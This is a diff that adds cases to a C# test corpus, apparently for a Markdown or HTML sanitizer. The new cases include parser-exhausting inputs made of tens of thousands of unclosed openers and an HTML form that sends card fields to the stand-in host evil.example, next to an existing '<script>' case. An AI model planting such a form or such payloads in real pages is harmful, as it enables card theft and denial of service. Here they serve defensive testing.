@@ -55,6 +55,10 @@ public static class Corpus
         new("body at the limit of 200000", new string('b', 199_990) + "<script>"),
         new("body over the limit (200001)", new string('c', 200_001)),
         new("a million characters", new string('d', 1_000_000)),
+        new("unclosed link openers ×50000 (200 KB)", string.Concat(Enumerable.Repeat("[a](", 50_000))),
+        new("unclosed marks ×16000", string.Concat(Enumerable.Repeat("==a", 16_000))),
+        new("unclosed image openers in short paragraphs ×20000", string.Concat(Enumerable.Repeat("![a](\n\n", 20_000))),
+        new("a form with card fields", "<form action=\"https://evil.example/card\"><input name=\"card\"><select name=\"m\"><option>1</option></select><textarea name=\"t\"></textarea><button>Pay</button></form>"),
     ];
 
     /// <summary>Byte sequences that are not UTF-8 (or are forbidden in it), sent as raw bytes in form fields.</summary>
